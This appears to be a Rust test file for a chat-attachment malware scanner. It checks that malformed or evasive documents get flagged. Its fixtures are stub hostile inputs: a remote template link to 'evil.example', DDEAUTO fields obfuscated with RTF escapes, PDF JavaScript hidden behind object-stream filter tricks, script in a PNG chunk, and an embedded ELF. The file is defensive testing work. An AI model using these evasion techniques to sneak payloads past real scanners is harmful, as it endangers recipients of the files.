//! Unreadable, missing and duplicate data is never assumed to be harmless.

use chat_attachments::{Finding, Reason, fixture};
use fixture::{Compound, Zip};

use crate::support::{assert_found, judged, reason};

const RELS: &str = "http://schemas.openxmlformats.org/package/2006/relationships";
const TEMPLATE: &str =
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";

#[track_caller]
fn assert_reason(bytes: &[u8], name: &str, because: Reason) {
    let judgement = judged(bytes, name);
    assert_eq!(reason(&judgement), Some(because), "{judgement:?}");
}

fn with_link(attributes: &str) -> Vec<u8> {
    let part =
        format!(r#"<Relationships xmlns="{RELS}"><Relationship {attributes}/></Relationships>"#);
    fixture::docx_with(|zip| zip.deflated("word/_rels/a.xml.rels", part), "")
}

#[test]
fn relationships_with_missing_duplicate_or_broken_attributes_are_refused() {
    let remote = "Target='http://evil.example/a.dotm' TargetMode='External'";
    assert_found(
        &with_link(&format!("Type='{TEMPLATE}' {remote}")),
        "a.docx",
        &[Finding::ExternalTemplate],
    );
    for attributes in [
        remote.to_owned(),
        format!("Type='{TEMPLATE}'"),
        format!("Type='a' Type='{TEMPLATE}' {remote}"),
        format!("x:Type='a' Type='{TEMPLATE}' {remote}"),
        format!("broken Type='{TEMPLATE}' {remote}"),
        format!("Type='{TEMPLATE}&nothing;' {remote}"),
    ] {
        assert_reason(&with_link(&attributes), "a.docx", Reason::Damaged);
    }
}

#[test]
fn content_types_that_are_missing_or_contradict_are_refused() {
    let with = |types: &str| fixture::docx_with(|zip| zip.deflated("word/x.bin", "x"), types);
    let macros = "ContentType='application/vnd.ms-office.vbaProject'";
    assert_reason(
        &with(&format!("<Default Extension='bin' {macros}/>")),
        "a.docx",
        Reason::MacroEnabled,
    );
    for types in [
        format!("<Default {macros}/>"),
        "<Default Extension='bin'/>".into(),
        "<Override PartName='/word/x.bin'/>".into(),
    ] {
        assert_reason(&with(&types), "a.docx", Reason::Damaged);
    }
    let twice = format!(
        "<Default Extension='bin' {macros}/><Default Extension='BIN' ContentType='image/png'/>"
    );
    assert_reason(&with(&twice), "a.docx", Reason::UnsafeContent);
    let same = "<Default Extension='bin' ContentType='a'/>".repeat(2);
    assert!(judged(&with(&same), "a.docx").is_accepted());
}

#[test]
fn manifests_that_hide_a_path_or_a_type_are_refused() {
    let odt = "application/vnd.oasis.opendocument.text";
    let package = |entries: &str| {
        Zip::new()
            .stored("mimetype", odt)
            .deflated(
                "META-INF/manifest.xml",
                format!("<m:manifest xmlns:m='m'>{entries}</m:manifest>"),
            )
            .deflated("content.xml", "<c/>")
            .finish()
    };
    let root = format!("<m:file-entry m:full-path='/' m:media-type='{odt}'/>");
    assert!(judged(&package(&root), "a.odt").is_accepted());
    for entries in [
        format!("{root}<m:file-entry m:media-type='text/xml'/>"),
        "<m:file-entry m:full-path='/'/>".to_owned(),
        format!(
            "<m:file-entry m:full-path='/' x:media-type='application/x' m:media-type='{odt}'/>"
        ),
    ] {
        assert_reason(&package(&entries), "a.odt", Reason::Damaged);
    }
}

#[test]
fn entities_are_found_at_any_offset_and_in_any_encoding() {
    let far = format!(
        "<?xml version='1.0'?><!--{}--><!DOCTYPE a [<!ENTITY b 'c'>]><a/>",
        "x".repeat(9_000)
    );
    let wide: Vec<u8> = far.encode_utf16().flat_map(u16::to_le_bytes).collect();
    for part in [far.into_bytes(), wide] {
        let document = fixture::docx_with(|zip| zip.deflated("word/a.xml", &part), "");
        assert_reason(&document, "a.docx", Reason::UnsafeContent);
        let text = Zip::new()
            .deflated("META-INF/manifest.xml", "<m><file-entry full-path='/' media-type='application/vnd.oasis.opendocument.text'/></m>")
            .deflated("content.xml", &part)
            .finish();
        assert_reason(&text, "a.odt", Reason::UnsafeContent);
    }
}

#[test]
fn links_that_start_a_program_are_found_in_any_encoding_and_across_pieces() {
    let field = |pad: usize| {
        format!(
            "<a>{}<w:instrText>DDEAUTO c:\\\\x</w:instrText></a>",
            "y".repeat(pad)
        )
    };
    let wide =
        |text: String| -> Vec<u8> { text.encode_utf16().flat_map(u16::to_be_bytes).collect() };
    let parts = (65_500..65_580)
        .step_by(3)
        .map(|pad| field(pad).into_bytes())
        .chain([wide(field(10)), wide(field(40_000))]);
    for part in parts {
        for stored in [true, false] {
            let more = |zip: Zip| {
                if stored {
                    zip.stored("word/a.xml", &part)
                } else {
                    zip.deflated("word/a.xml", &part)
                }
            };
            assert_found(&fixture::docx_with(more, ""), "a.docx", &[Finding::Dde]);
        }
    }
}

#[test]
fn fields_of_rich_text_are_read_through_escapes() {
    for field in [
        r"\'44\'44\'45AUTO x",
        r"{\b D}{\i\f1 D}EAUTO x",
        r"\u68?\u68?\u69?AUTO x",
        "D\r\nD\r\nEAUTO x",
        r"{\*\a b}DDE x",
        r"{\*\a {b}}D{\bkmkstart a}D{\*\bkmkend b}E x",
        r"\u68X\u68X\u69X x",
        r"\uc2\u68XY\u68XY\u69XY x",
        r"\'20\u32?DDE x",
    ] {
        let text = format!(r"{{\rtf1{{\field{{\*\fldinst {{{field}}}}}}}}}");
        assert_found(text.as_bytes(), "a.rtf", &[Finding::Dde]);
    }
    let far = format!(
        r"{{\rtf1{{\field{{\*\fldinst {{{} DDE x}}}}}}}}",
        r"\fs20\lang1031".repeat(40)
    );
    assert_found(far.as_bytes(), "a.rtf", &[Finding::Dde]);
    // Beyond the inspected bytes.
    for field in [
        "\r\n".repeat(2_000),
        format!(r"{{\*\a {}}}", "b".repeat(4_000)),
    ] {
        let text = format!(r"{{\rtf1{{\field{{\*\fldinst {field}DDE x}}}}}}");
        assert_found(text.as_bytes(), "a.rtf", &[Finding::Dde]);
    }
    for field in [
        "PAGE",
        "D D E",
        r"HYPERLINK dde",
        r"\u100?ocument",
        r"{\*\bkmkstart a}PAGE",
        r"{ FORMTEXT }{dde}",
        "}{\\*\\a",
    ] {
        let text = format!(r"{{\rtf1{{\field{{\*\fldinst {{{field}}}}}}}}}");
        assert!(judged(text.as_bytes(), "a.rtf").is_accepted(), "{field}");
    }
}

/// An object stream with a script, under the given dictionary.
fn scripted(dictionary: &str) -> Vec<u8> {
    let plain = fixture::pdf_with_object_stream("<< /S /JavaScript /JS (app.alert(1)) >>");
    let start = plain.windows(7).position(|w| w == b"stream\n").unwrap();
    let begin = plain[..start].windows(2).rposition(|w| w == b"<<").unwrap();
    [
        &plain[..begin],
        dictionary.as_bytes(),
        b"\n",
        &plain[start..],
    ]
    .concat()
}

#[test]
fn object_streams_cannot_hide_behind_words_in_their_dictionary() {
    let pad = " ".repeat(3_000);
    let far = " ".repeat(70_000);
    for (dictionary, finding) in [
        (
            "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>".to_owned(),
            Finding::JavaScript,
        ),
        (
            "<< /Type /ObjStm /X (endobj) /N 1 /First 4 /Filter /FlateDecode >>".to_owned(),
            Finding::JavaScript,
        ),
        (
            "<< /Type /ObjStm /X (stream) /N 1 /First 4 /Filter /FlateDecode >>".to_owned(),
            Finding::JavaScript,
        ),
        (
            "<< /Filter /FlateDecode /X (1 0 obj) /Type /ObjStm /N 1 /First 4 >>".to_owned(),
            Finding::Unseen,
        ),
        (
            "<< /Filter /FlateDecode % 1 0 obj <<\n /Type /ObjStm /N 1 /First 4 >>".to_owned(),
            Finding::Unseen,
        ),
        (
            format!("<< /Type /ObjStm /N 1 /First 4 {pad} /Filter /FlateDecode >>"),
            Finding::JavaScript,
        ),
        (
            format!("<< /Filter /FlateDecode {pad} /Type /ObjStm /N 1 /First 4 >>"),
            Finding::Unseen,
        ),
        (
            format!("<< /Type /ObjStm /N 1 /First 4 {far} /Filter /FlateDecode >>"),
            Finding::Unseen,
        ),
        (
            "<< /Type /ObjStm /N 1 /First 4 >>".to_owned(),
            Finding::Unseen,
        ),
        (
            "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms 9 0 R >>".to_owned(),
            Finding::Unseen,
        ),
        (
            "<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode] /DP [9 0 R] >>".to_owned(),
            Finding::Unseen,
        ),
        (
            "<< /Type /ObjStm /N 1 /First 4 /Filter [/Fl] /DP [<< /Columns 5 >>] >>".to_owned(),
            Finding::JavaScript,
        ),
    ] {
        assert_found(&scripted(&dictionary), "a.pdf", &[finding]);
    }
}

#[test]
fn object_streams_cannot_hide_behind_values_in_other_objects() {
    for (how, finding) in [
        ("/Filter /FlateDecode", Finding::JavaScript),
        ("/Filter [ /FlateDecode ]", Finding::JavaScript),
        (
            "/Filter /Fl /DecodeParms << /Predictor 1 /Columns 8 >>",
            Finding::JavaScript,
        ),
        (
            "/Filter [/Fl] /DecodeParms [null] /X 9 0 R",
            Finding::JavaScript,
        ),
        (
            "/Filter /FlateDecode /DecodeParms null",
            Finding::JavaScript,
        ),
        (
            "/Filter /FlateDecode /DecodeParms << /Predictor 1 0 R >>",
            Finding::Unseen,
        ),
        (
            "/Filter /FlateDecode /DecodeParms << /Predictor 12 >>",
            Finding::Unseen,
        ),
        (
            "/Filter /FlateDecode /DecodeParms [<< /A [1] >> 9 0 R]",
            Finding::Unseen,
        ),
        ("/Filter [/FlateDecode 6 0 R]", Finding::Unseen),
        ("/Filter [/FlateDecode [/LZWDecode]]", Finding::Unseen),
        ("/Filter [6 0 R /FlateDecode]", Finding::Unseen),
        ("/Filter 6 0 R", Finding::Unseen),
        ("/Filter [/FlateDecode null]", Finding::Unseen),
    ] {
        let dictionary = format!("<< /Type /ObjStm /N 1 /First 4 {how} >>");
        assert_found(&scripted(&dictionary), "a.pdf", &[finding]);
    }
}

#[test]
fn markup_is_found_anywhere_in_the_text_of_a_picture() {
    let text = format!("Comment\0{}<script>x</script>", "x".repeat(4_090));
    let mut chunk = [b"tEXt", text.as_bytes()].concat();
    chunk.extend(crc32fast::hash(&chunk).to_be_bytes());
    let png = fixture::png(2, 2);
    let len = u32::try_from(text.len()).unwrap().to_be_bytes();
    let bytes = [&png[..33], &len, &chunk, &png[33..]].concat();
    assert_reason(&bytes, "a.png", Reason::HiddenFile);
}

#[test]
fn packed_programs_are_found_despite_wrong_lengths() {
    let native = |path_len: u32| {
        let mut native = [
            &[0, 0, 0, 0, 2, 0][..],
            b"letter.txt\0letter.txt\0\0\0\x03\0",
        ]
        .concat();
        native.extend(path_len.to_le_bytes());
        native.extend(b"letter.txt\0\x09\0\0\0\x7fELF\x02\x01\x01\0\0");
        Compound::new()
            .stream(
                "Workbook",
                b"\x09\x08\x08\0\0\x06\x05\0\0\0\0\0\x0a\0\0\0".to_vec(),
            )
            .stream("MBD1/\u{1}Ole10Native", native)
            .finish()
    };
    for len in [11, 0, 3, 5_000, u32::MAX] {
        assert_reason(&native(len), "a.xls", Reason::ProgramInside);
    }
}

#[test]
fn records_too_short_for_their_content_are_damaged() {
    let sheet = |record: &[u8]| {
        let main = [b"\x09\x08\x08\0\0\x06\x05\0\0\0\0\0", record, b"\x0a\0\0\0"].concat();
        Compound::new().stream("Workbook", main).finish()
    };
    assert!(judged(&sheet(b"\x85\0\x06\0\0\0\0\0\0\0"), "a.xls").is_accepted());
    assert_found(
        &sheet(b"\x85\0\x06\0\0\0\0\0\0\x01"),
        "a.xls",
        &[Finding::Macros],
    );
    assert_reason(&sheet(b"\x85\0\x04\0\0\0\0\0"), "a.xls", Reason::Damaged);
    let show = |record: &[u8]| {
        let user = b"\0\0\xf6\x0f\x14\0\0\0\x14\0\0\0\x5f\xc0\x91\xe3".to_vec();
        Compound::new()
            .stream("Current User", user)
            .stream("PowerPoint Document", record.to_vec())
            .finish()
    };
    assert!(
        judged(
            &show(b"\x02\0\0\x04\x0c\0\0\0\x01\0\0\0\0\0\0\0\x02\0\0\0"),
            "a.ppt"
        )
        .is_accepted()
    );
    assert_reason(
        &show(b"\x02\0\0\x04\x04\0\0\0\x01\0\0\0"),
        "a.ppt",
        Reason::Damaged,
    );
}
